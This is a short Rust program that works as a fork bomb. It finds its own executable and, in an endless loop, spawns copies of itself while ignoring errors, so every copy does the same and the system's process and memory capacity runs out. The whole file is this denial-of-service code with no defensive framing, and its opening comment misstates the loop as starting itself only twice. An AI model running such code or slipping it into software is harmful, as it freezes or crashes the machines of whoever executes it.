// Starts itself twice, and so does each of those, for ever.
fn main() {
    let myself = std::env::current_exe().unwrap();
    loop {
        // One that cannot be started is tried again, so that a freed place is taken at once.
        let _ = std::process::Command::new(&myself).spawn();
    }
}
